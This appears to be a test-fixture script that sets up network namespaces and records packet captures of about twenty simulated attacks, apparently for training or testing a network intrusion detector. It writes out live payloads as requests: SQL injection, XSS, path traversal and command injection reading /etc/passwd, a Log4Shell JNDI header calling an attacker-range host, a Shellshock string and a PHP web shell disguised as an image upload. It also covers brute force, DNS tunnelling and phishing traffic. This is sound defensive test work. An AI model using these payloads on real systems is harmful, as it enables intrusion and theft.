#!/usr/bin/env bash
# Records tests/captures: two namespaces, one cable. Inside is the operator's network 10.20.30.0/24, outside are attackers
# 198.51.100.0/24 and servers of the Internet 203.0.113.0/24. The recorder sits on the inside's end of the cable.
#   tests/record/record.sh [SUBJECT...]
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/../.."
here=tests/record
out=tests/captures
work=$(mktemp -d)
inside=hdrec-in-$$ outside=hdrec-out-$$
servers=()

finish() {
  for pid in "${servers[@]}"; do kill "$pid" 2>/dev/null || true; done
  ip netns del "$inside" 2>/dev/null || true
  ip netns del "$outside" 2>/dev/null || true
  [[ -n ${KEEP:-} ]] && cp -r "$work" "$KEEP"
  rm -rf "$work"
}
trap finish EXIT

in_() { ip netns exec "$inside" timeout 60 "$@"; }
out_() { ip netns exec "$outside" timeout 60 "$@"; }
# serve SIDE COMMAND...: runs until the end.
serve() {
  local side=$1
  shift
  ip netns exec "$side" "$@" >>"$work/servers.log" 2>&1 &
  servers+=($!)
}

ip netns add "$inside"
ip netns add "$outside"
ip link add eth0 netns "$inside" type veth peer name eth0 netns "$outside"
for side in "$inside" "$outside"; do
  ip -n "$side" link set lo up
  ip -n "$side" link set eth0 up
  # A capture of a wire, not of a card's offloads.
  ip netns exec "$side" ethtool -K eth0 tx off gso off tso off gro off >/dev/null 2>&1 || true
done
for last in 2 10 20 23 53 60 101 102 103; do ip -n "$inside" address add "10.20.30.$last/24" dev eth0; done
for last in 7 22 60 66 80 99; do ip -n "$outside" address add "198.51.100.$last/24" dev eth0; done
for last in 5 9 10 66 88; do ip -n "$outside" address add "203.0.113.$last/24" dev eth0; done
ip -n "$inside" route add default dev eth0
ip -n "$outside" route add 10.20.30.0/24 dev eth0

openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/key.pem" -out "$work/cert.pem" -days 3650 -subj "/C=VN/O=May chu thu/CN=203.0.113.88" 2>/dev/null
ssh-keygen -q -t ed25519 -N '' -f "$work/host"
mkdir -p /run/sshd
: >"$work/sshd.conf"
mkdir -p "$work/www" "$work/nginx"
echo '<html><title>Trang tin</title><p>Tin trong ngày</p></html>' >"$work/www/index.html"
echo '<html><title>Cổng Dịch vụ công Quốc gia</title><form method="post"><input name="cccd"><input name="otp"></form>' >"$work/www/xac-thuc.html"
echo '<html><title>Hacked by N0b0dy</title><h1>Hacked by N0b0dy</h1>' >"$work/www/deface.html"
cat >"$work/nginx.conf" <<CONF
pid $work/nginx/pid; error_log $work/nginx/error; daemon off; worker_processes 1;
events {}
http { access_log off; client_body_temp_path $work/nginx/a; proxy_temp_path $work/nginx/b; fastcgi_temp_path $work/nginx/c; uwsgi_temp_path $work/nginx/d; scgi_temp_path $work/nginx/e;
  server { listen 80; root $work/www; }
  server { listen 443 ssl; ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem; root $work/www; } }
CONF
chmod 711 "$work"
serve "$inside" /usr/bin/python3 $here/servers.py web 10.20.30.10
serve "$inside" /usr/sbin/sshd -D -e -f "$work/sshd.conf" -h "$work/host" -o ListenAddress=10.20.30.20 -o UsePAM=no -o PidFile=none
for name in telnet:23 ftp:23 dns:53 sip:60 snmp:2 rdp:20 ntp:53; do serve "$inside" /usr/bin/python3 $here/servers.py "${name%:*}" "10.20.30.${name#*:}"; done
serve "$outside" /usr/bin/python3 $here/servers.py web 203.0.113.10
serve "$outside" /usr/bin/python3 $here/servers.py dns 203.0.113.5
serve "$outside" /usr/bin/python3 $here/servers.py stratum 203.0.113.66
serve "$outside" nginx -c "$work/nginx.conf"
# listens SIDE ADDRESS PORT: waits until someone does.
listens() {
  for _ in $(seq 1 100); do
    if ip netns exec "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null; then return; fi
    sleep 0.1
  done
  echo "record: nothing listens on $2 port $3" >&2
  exit 4
}
listens "$inside" 10.20.30.10 8080
for port in 22 3389; do listens "$inside" 10.20.30.20 "$port"; done
for port in 21 23; do listens "$inside" 10.20.30.23 "$port"; done
listens "$outside" 203.0.113.10 8080
listens "$outside" 203.0.113.66 3333
listens "$outside" 203.0.113.88 443
sleep 1  # datagram servers say nothing of themselves

# record SUBJECT FUNCTION: what the function does, as seen on the cable.
record() {
  local subject=$1 act=$2
  shift 2
  if [[ ${#wanted[@]} -gt 0 && ! " ${wanted[*]} " == *" $subject "* ]]; then return; fi
  ip netns exec "$inside" tcpdump -q -U -i eth0 -s 0 -w "$work/$subject.pcap" 'ip' 2>>"$work/tcpdump.log" &
  local recorder=$!
  sleep 0.6
  "$act" >>"$work/clients.log" 2>&1 || true
  sleep 0.5
  kill -INT "$recorder"
  wait "$recorder" 2>/dev/null || true
  cp "$work/$subject.pcap" "$out/$subject.pcap"
  printf '  %-24s %8d bytes\n' "$subject" "$(stat -c %s "$out/$subject.pcap")"
}

web=http://10.20.30.10:8080
# visit LAST CURL-ARGUMENTS...: from 198.51.100.LAST.
visit() {
  local last=$1
  shift
  out_ curl -s --interface "198.51.100.$last" "$@"
}

scan_ports() { out_ nmap -n -Pn -sS -T4 --max-retries 0 -S 198.51.100.7 -e eth0 -p 1-250 10.20.30.20; }
scan_services() { out_ nmap -n -Pn -sV --version-light --script http-title,http-methods -S 198.51.100.7 -e eth0 -p 8080,22 10.20.30.10; }
web_injection() {
  visit 66  "$web/tra-cuu?ma=1%27%20UNION%20SELECT%20user,password%20FROM%20mysql.user--%20-"
  visit 66  "$web/tra-cuu?ma=1%27%20OR%20%271%27=%271"
  visit 66  -A "sqlmap/1.7.2#stable (https://sqlmap.org)" "$web/tra-cuu?ma=1%20AND%20SLEEP(5)"
  visit 66  "$web/tim?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
  visit 66  "$web/tim?q=information_schema.tables"
}
web_traversal() {
  visit 80 --path-as-is  "$web/tai-ve/../../../../etc/passwd"
  visit 80  "$web/ping?host=127.0.0.1%3Bcat%20/etc/passwd"
  visit 80  -H 'X-Api-Version: ${jndi:ldap://198.51.100.80:1389/a}' "$web/"
  visit 80  -A '() { :;}; /bin/bash -c "id"' "$web/cgi-bin/status"
  visit 80  "$web/.git/config"
  visit 80  "$web/.env"
}
web_shell() {
  printf '<?php @eval($_POST["c"]);system($_GET["cmd"]); ?>' >"$work/anh.php"
  visit 99  -F "tep=@$work/anh.php;type=image/png" "$web/tai-len"
  visit 99  "$web/uploads/anh.php?cmd=id"
  visit 99  -d "c=%40eval%28base64_decode%28%24_POST%5B%27z0%27%5D%29%29%3B&z0=QGluaV9zZXQ" "$web/uploads/anh.php"
  visit 99  -d "c=system('whoami');" "$web/uploads/anh.php"
}
ssh_force() {
  for n in $(seq 1 14); do
    out_ ssh -b 198.51.100.22 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 "user$n@10.20.30.20" true || true
  done
}
telnet_force() { out_ /usr/bin/python3 $here/clients.py telnet 10.20.30.23; }
iot_botnet() { out_ /usr/bin/python3 $here/clients.py iot 10.20.30.23; }
rdp_force() { out_ /usr/bin/python3 $here/clients.py rdp 10.20.30.20; }
clear_text() {
  visit 7 -m 4  ftp://ketoan:MatKhau%402022@10.20.30.23/ || true
  for word in 123456 admin root; do visit 7 -m 4  "ftp://ketoan:$word@10.20.30.23/" || true; done
  visit 7  -u "admin:admin" "$web/quan-tri/"
  visit 7  -d "tai_khoan=ketoan&password=MatKhau2022" "$web/dang-nhap"
}
dns_tunnel() {
  for n in $(seq 1 60); do
    label=$(printf 'du lieu mat so %d cua co quan' "$n" | sha256sum | cut -c1-60)
    in_ dig -b 10.20.30.101 +tries=1 +time=2 @203.0.113.5 TXT "$label.$label.t$n.ong-ngam.example" >/dev/null
  done
}
dns_amplify() {
  for n in $(seq 1 40); do out_ dig -b 198.51.100.99 +tries=1 +time=2 +bufsize=4096 +notcp +ignore @10.20.30.53 ANY "lon$n.example.vn" >/dev/null; done
  out_ /usr/bin/python3 $here/clients.py ntp 10.20.30.53
}
eicar() { in_ wget -q -O "$work/x" --bind-address=10.20.30.102 http://203.0.113.10:8080/tai-ve/hoa-don.com; }
tls_bad() {
  for name in update-windows-security.example cdn.kho-ma-doc.example; do
    in_ curl -s -k --interface 10.20.30.102 --resolve "$name:443:203.0.113.88" "https://$name/gate.php" || true
  done
  in_ curl -s -k --interface 10.20.30.102 --resolve "abcdefghij234567.onion.example:443:203.0.113.88" https://abcdefghij234567.onion.example/ || true
}
mining() { in_ /usr/bin/python3 $here/clients.py miner 203.0.113.66; }
sip_scan() {
  out_ /usr/bin/python3 $here/clients.py sip 10.20.30.60
  out_ /usr/bin/python3 $here/clients.py register 10.20.30.60
}
snmp_default() { out_ /usr/bin/python3 $here/clients.py snmp 10.20.30.2; }
content_order() {
  in_ dig -b 10.20.30.103 +tries=1 @203.0.113.5 A tin-xau-doc.example >/dev/null
  in_ curl -s --interface 10.20.30.103 --resolve tin-xau-doc.example:80:203.0.113.9 http://tin-xau-doc.example/bai-viet
  in_ curl -s -k --interface 10.20.30.103 --resolve www.tin-xau-doc.example:443:203.0.113.9 https://www.tin-xau-doc.example/ || true
}
ordinary() {
  in_ curl -s --interface 10.20.30.101 http://203.0.113.9/index.html
  in_ wget -q -O "$work/y" --bind-address=10.20.30.101 http://203.0.113.9/
  in_ dig -b 10.20.30.101 +tries=1 @203.0.113.5 A dichvucong.example.vn >/dev/null
  in_ dig -b 10.20.30.101 +tries=1 @203.0.113.5 AAAA thu-vien.example.vn >/dev/null
  in_ dig -b 10.20.30.101 +tries=1 @203.0.113.5 TXT example.vn >/dev/null
  in_ curl -s -k --interface 10.20.30.101 --resolve www.example.vn:443:203.0.113.9 https://www.example.vn/
  visit 60  "$web/gioi-thieu"
  visit 60  -d "ho_ten=Nguyen+Van+A&noi_dung=Xin+hoi+thu+tuc" "$web/lien-he"
  out_ ssh -b 198.51.100.60 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null khach@10.20.30.20 true || true
}

phishing() {
  in_ curl -s -k --interface 10.20.30.102 --resolve dichvucong-quocgia.example:443:203.0.113.88 https://dichvucong-quocgia.example/
  in_ curl -s --interface 10.20.30.102 --resolve dichvucong-quocgia.example:80:203.0.113.88 http://dichvucong-quocgia.example/xac-thuc.html
  in_ curl -s --interface 10.20.30.102 --resolve dichvucong-quocgia.example:80:203.0.113.88 -d "cccd=001099000001&otp=123456" http://dichvucong-quocgia.example/xac-thuc.html
}
deface() {
  visit 66 -T "$work/www/deface.html" "$web/index.html"
  visit 60 "$web/index.html"
}

wanted=("$@")
mkdir -p "$out"
record 01-port-scan scan_ports
record 02-service-scan scan_services
record 03-web-injection web_injection
record 04-web-traversal web_traversal
record 05-web-shell web_shell
record 06-ssh-brute-force ssh_force
record 07-telnet-brute-force telnet_force
record 08-iot-botnet iot_botnet
record 09-rdp-brute-force rdp_force
record 10-clear-text clear_text
record 11-dns-tunnel dns_tunnel
record 12-amplification dns_amplify
record 13-eicar eicar
record 14-tls-known-bad tls_bad
record 15-mining mining
record 16-sip-scan sip_scan
record 17-snmp-default snmp_default
record 18-content-order content_order
record 19-ordinary ordinary
record 20-phishing phishing
record 21-deface deface
